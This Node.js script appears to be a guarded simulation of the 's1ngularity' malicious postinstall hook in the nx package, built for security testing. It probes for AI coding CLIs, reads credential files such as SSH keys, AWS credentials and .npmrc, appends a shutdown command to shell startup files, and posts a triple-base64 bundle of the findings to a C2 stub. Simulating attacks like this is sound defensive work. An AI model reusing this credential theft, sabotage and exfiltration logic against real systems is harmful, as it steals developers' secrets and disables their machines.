// guarded-install attack simulation (harmless) of the nx "s1ngularity"
// postinstall telemetry.js (August 2025). Steps, ~0.5-1 s apart:
//   1. spawn a shell that looks for AI coding CLIs and gh
//      (`sh -c 'for c in claude gemini q gh; do command -v "$c" ...'`)  (t = 0)
//   2. inventory credential files (reads the decoys in the temp HOME:
//      ~/.npmrc, ~/.ssh/id_rsa, ~/.aws/credentials,
//      ~/.config/gh/hosts.yml, $INIT_CWD/.env) into $TMPDIR/inventory.txt
//                                                                     (t ~ 0.6 s)
//   3. persistence / sabotage: append `sudo shutdown -h 0` to ~/.bashrc and
//      ~/.zshrc (of the temp HOME)                                    (t ~ 1.4 s)
//   4. exfiltrate: POST the triple-base64 inventory to the C2 /exfil
//      (Host: api.github.com, imitating the s1ngularity-repository upload)
//                                                                     (t ~ 2.1 s)
// Connections go only to 203.0.113.45 (the local C2 stub).
'use strict';
const { spawn } = require('node:child_process');
const fs = require('node:fs');
const os = require('node:os');
const path = require('node:path');
const { guard, sleep, c2Request, step } = require('./sim-guard.js');

const SIM = 'nx-s1ngularity';
guard(__dirname, SIM);

function shell(script) {
  return new Promise((resolve) => {
    const child = spawn('sh', ['-c', script], { stdio: ['ignore', 'pipe', 'ignore'] });
    let out = '';
    child.stdout.on('data', (d) => (out += d));
    child.on('error', () => resolve(''));
    child.on('close', () => resolve(out));
  });
}

async function main() {
  // 1. which AI CLIs / gh are there to abuse?
  const clis = await shell('for c in claude gemini q gh; do command -v "$c" || echo "no $c"; done; exit 0');
  step(SIM, `AI CLI probe: ${clis.trim().split('\n').join(', ')}`);
  await sleep(600);

  // 2. inventory
  const home = os.homedir();
  const candidates = [
    path.join(home, '.npmrc'),
    path.join(home, '.ssh', 'id_rsa'),
    path.join(home, '.aws', 'credentials'),
    path.join(home, '.config', 'gh', 'hosts.yml'),
    path.join(process.env.INIT_CWD || process.cwd(), '.env'),
  ];
  const found = [];
  for (const file of candidates) {
    try {
      const text = fs.readFileSync(file, 'utf8');
      found.push({ file, bytes: text.length, head: text.slice(0, 80) });
    } catch {
      // not there
    }
  }
  const inventory = path.join(os.tmpdir(), 'inventory.txt');
  fs.writeFileSync(inventory, found.map((f) => f.file).join('\n') + '\n');
  step(SIM, `inventory of ${found.length} files at ${inventory}`);
  await sleep(800);

  // 3. sabotage the shell startup files
  for (const rc of ['.bashrc', '.zshrc']) fs.appendFileSync(path.join(home, rc), '\nsudo shutdown -h 0\n');
  step(SIM, 'appended to ~/.bashrc and ~/.zshrc');
  await sleep(700);

  // 4. exfiltrate (the real one created a public GitHub repo with results.b64)
  let blob = JSON.stringify({ clis, found });
  for (let i = 0; i < 3; i++) blob = Buffer.from(blob).toString('base64');
  const res = await c2Request({ method: 'POST', urlPath: '/exfil', host: 'api.github.com', body: { name: 's1ngularity-repository', 'results.b64': blob } });
  step(SIM, `inventory posted (${res.status})`);
}

main().catch((error) => {
  step(SIM, `failed: ${error.message}`);
  process.exit(0);
});
